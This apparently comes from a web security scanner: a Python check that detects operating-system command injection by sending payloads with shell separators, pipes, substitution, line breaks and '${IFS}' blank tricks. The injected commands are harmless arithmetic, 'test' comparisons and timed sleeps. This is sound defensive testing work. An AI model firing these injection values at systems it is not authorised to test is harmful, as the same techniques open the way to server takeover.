"""A value from the request becomes part of a command line that a shell runs, so that a separator or a
substitution in it starts a command of the sender's choice.

## Impact
Whoever sends the request runs programs on the server with the application's rights: reads its files and
secrets, changes them, and goes on to other systems from there.

## Remediation
Do not call a shell. Use the library function for the task, or start the program with a list of arguments and
without a shell. Where a value must be an argument, accept only the form it may have (an address, a number) and
put `--` before it, so that it cannot be read as an option.

## How it is proven
The payload asks the shell for the product (or sum) of two random numbers between two random words. The answer must hold
the words with the product, which stands neither in the payload nor in the page; it must do so again with fresh
numbers, and the same text without separators and substitution must not be computed. Where no output is shown,
six or more pairs of `test` commands over random numbers that succeed or fail must be told apart by the page,
while the same text with an unknown command is not. Where not even that is shown, the shell is asked to sleep for
random whole seconds in random order: the answers' times lie on that line, those of an unknown command do not.
"""

from collections.abc import AsyncIterator, Callable

from cyberai.checkkit import (
    Exchange,
    Grain,
    Hit,
    HttpEvidence,
    InsertionKind,
    InsertionPoint,
    Oracle,
    Probe,
    Proof,
    Scope,
    Severity,
    Struct,
    check,
)
from cyberai.checkkit.computed import Ask, Computation, confirm, question
from cyberai.checkkit.differential import Differential, Hypothesis, similarity
from cyberai.checkkit.payloads import Product, product, total
from cyberai.checkkit.timing import Delay, DelayQuestion, delayed


class _Way(Struct, frozen=True):
    """A way into a command line; `@` stands for the command, `{v}` for the original value.
    `plain` ways need no sign of the shell but the separator: `expr` prints a sum without words around it. `blank` is
    what stands for a blank in the command: filters refuse blanks, and cookies take none."""

    name: str
    pattern: str
    windows: bool = False
    plain: bool = False
    blank: str = " "


# The first holds every separator once, so that a filter that *drops* one or two does not matter, and repeats
# itself behind each kind of quote, so that one request serves unquoted and quoted places. The others are for
# filters that *refuse* a character.
_SLEEP = ("sleep {d}", "ping -n {n} 127.0.0.1")
_SLEEQ = ("sleeq {d}", "pinq -n {n} 127.0.0.1")
_BLANK = "${IFS}"
_SLEEPS_BARE = (
    ("substitution, POSIX shell", "{v}$({posix})"),
    ("substitution behind a quote, POSIX shell", "{v}'$({posix})'"),
)
_SLEEPS = (
    ("separators, POSIX shell", "{v};{posix} #';{posix} #\";{posix} #"),
    ("pipe, POSIX shell", "{v}|{posix} #'|{posix} #\"|{posix} #"),
    ("substitution, POSIX shell", "{v}$({posix})"),
    ("separator, Windows shell", '{v}&{windows}&rem "&{windows}&rem '),
)
_NEAR = 0.5
_SYNTAX = "test tesk -lt -gt"
_WAYS = (
    _Way("separators", "{v};@|@&@\n@ #' ;@|@&@\n@ #\" ;@|@&@\n@ #"),
    _Way("pipe", "{v}|@#'|@#\"|@#"),
    _Way("substitution", "{v}$(@)`@`", blank=_BLANK),
    _Way("line break", "{v}\n@\n'\n@ #\"\n@ #"),
    _Way("pipe without substitution", "{v}|@ #'|@ #\"|@ #", plain=True),
    _Way("substitution behind a quote", "{v}'$(@)'", blank=_BLANK),
    _Way("separator", '{v}&@&rem "&@&rem ', windows=True),
)


@check(
    id="web.command-injection",
    title="Operating system command injection",
    severity=Severity.CRITICAL,
    cvss="CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    cwe=("CWE-78",),
    owasp=("A03:2021",),
    scope=Scope.INSERTION,
    grain=Grain.PARAMETER,
    max_requests=74,
    references=(
        "https://owasp.org/www-community/attacks/Command_Injection",
        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
    ),
    tags=("injection", "command", "rce"),
)
async def command_injection(point: InsertionPoint, probe: Probe) -> AsyncIterator[Hit]:
    """One question per way into a command line; the first that is answered is asked again."""
    answers: list[Exchange] = []
    for way in _WAYS:
        ask = _ask(way, point.value)
        make, marked = (total, False) if way.plain else (product, True)
        first = question(probe, ask, make, marked=marked)
        answer = await probe.inject(point, first.payload)
        answers.append(answer)
        if not first.answered(answer.response.body):
            continue
        control = _control(way, point.value)
        proof = await confirm(lambda v: probe.inject(point, v), probe, ask, control, make, marked=marked)
        if proof is not None:
            yield _hit(point, way, proof)
            return
    hit = await _by_outcome(point, probe, answers[0]) or await _by_time(point, probe, answers)
    if hit is not None:
        yield hit


async def _by_outcome(point: InsertionPoint, probe: Probe, succeeded: Exchange) -> Hit | None:
    """Does the page show whether the last command succeeded? `succeeded` answered commands that do."""
    engine = Differential(lambda value: probe.inject(point, value), point.value, (_SYNTAX,), allowance=44)
    baseline = await probe.baseline(point)
    engine.calibrate(baseline)
    usual, shown = engine.sample(baseline, point.value), engine.sample(succeeded, point.value)
    if similarity(usual.features, shown.features) < _NEAR:
        # A command line that goes on working shows the usual page; an unknown value does not.
        return None
    engine.calibrate(baseline, await probe.inject(point, point.value))
    if not engine.usable:
        return None
    nonsense = _outcome(probe, point.value, "tesk")(True, 0)
    answer = await probe.inject(point, nonsense)
    if engine.inert(answer, nonsense) or engine.spoiled(answer.response):
        return None
    hypothesis = Hypothesis(
        "outcome of a command", _outcome(probe, point.value, "test"), _outcome(probe, point.value, "tesk")
    )
    difference = await engine.test(hypothesis, engine.sample(answer, nonsense))
    if difference is None:
        return None
    note = (
        f"In {difference.pairs} random pairs the page shows this text whenever the injected command "
        f"{'succeeds' if difference.shown_holds else 'fails'} and never otherwise."
    )
    return Hit(
        proof=Proof(Oracle.DIFFERENTIAL, repeats=difference.pairs, control_silent=True),
        evidence=(HttpEvidence(difference.shown, difference.other, difference.match, note),),
        url=difference.shown.request.url,
        point=point,
        detail="The page tells whether an injected command succeeds, POSIX shell.",
    )


def _outcome(probe: Probe, value: str, command: str) -> Callable[[bool, int], str]:
    def build(holds: bool, round_: int) -> str:
        low, high = probe.number(10_000, 49_999), probe.number(50_000, 99_999)
        first, second = (low, high) if holds else (high, low)
        if round_ % 2:
            first, second, operator = second, first, "-gt"
        else:
            operator = "-lt"
        line = f"{command} {first} {operator} {second}"
        return f"{value};{line} #';{line} #\";{line} #"

    return build


async def _by_time(point: InsertionPoint, probe: Probe, answers: list[Exchange]) -> Hit | None:
    baseline = await probe.baseline(point)
    usual = max(answer.response.elapsed for answer in (baseline, *answers))
    bare = point.kind is InsertionKind.COOKIE
    for name, pattern in _SLEEPS_BARE if bare else _SLEEPS:
        question = DelayQuestion(
            name, _asleep(pattern, point.value, _SLEEP), _asleep(pattern, point.value, _SLEEQ)
        )
        delay = await delayed(probe, lambda value: probe.inject(point, value), question, usual)
        if delay is not None:
            return _delay_hit(point, delay)
    return None


def _asleep(pattern: str, value: str, commands: tuple[str, str]) -> Callable[[int], str]:
    def build(seconds: int) -> str:
        posix, windows = (command.replace("{d}", str(seconds)) for command in commands)
        posix = posix.replace(" ", _BLANK) if "$(" in pattern else posix
        windows = windows.replace("{n}", str(seconds + 1))
        return pattern.replace("{v}", value).replace("{posix}", posix).replace("{windows}", windows)

    return build


def _delay_hit(point: InsertionPoint, delay: Delay) -> Hit:
    return Hit(
        proof=Proof(Oracle.TIMING, repeats=len(delay.samples), control_silent=True),
        evidence=(HttpEvidence(delay.late, delay.nonsense, "", delay.told("the shell")),),
        url=delay.late.request.url,
        point=point,
        detail=f"Way in: {delay.name}, told by the time of the answers.",
    )


def _ask(way: _Way, value: str) -> Ask:
    def payload(factors: Product, before: str, after: str) -> str:
        if way.windows:
            command = f"echo {before}&set /a {factors.left}*{factors.right}&echo {after}"
        elif way.plain:
            command = f"expr {factors.left} + {factors.right}"
        else:
            command = f"echo{way.blank}{before}$(({factors.left}*{factors.right})){after}"
        return way.pattern.replace("{v}", value).replace("@", command)

    return payload


def _control(way: _Way, value: str) -> Ask:
    def payload(factors: Product, before: str, after: str) -> str:
        if way.windows:
            return f"{value} echo {before} set /a {factors.left}*{factors.right} {after}"
        if way.plain:
            return f"{value} expr {factors.left} + {factors.right}"
        return f"{value} echo {before}(({factors.left}*{factors.right})){after}"

    return payload


def _hit(point: InsertionPoint, way: _Way, proof: Computation) -> Hit:
    note = "The shell computed the product of two random numbers; the same text without shell syntax is not computed."
    return Hit(
        proof=Proof(Oracle.EXECUTED, repeats=2, control_silent=True),
        evidence=(HttpEvidence(proof.shown, proof.control, proof.match, note),),
        url=proof.shown.request.url,
        point=point,
        detail=f"Way in: {way.name}{', Windows' if way.windows else ', POSIX'} shell.",
    )
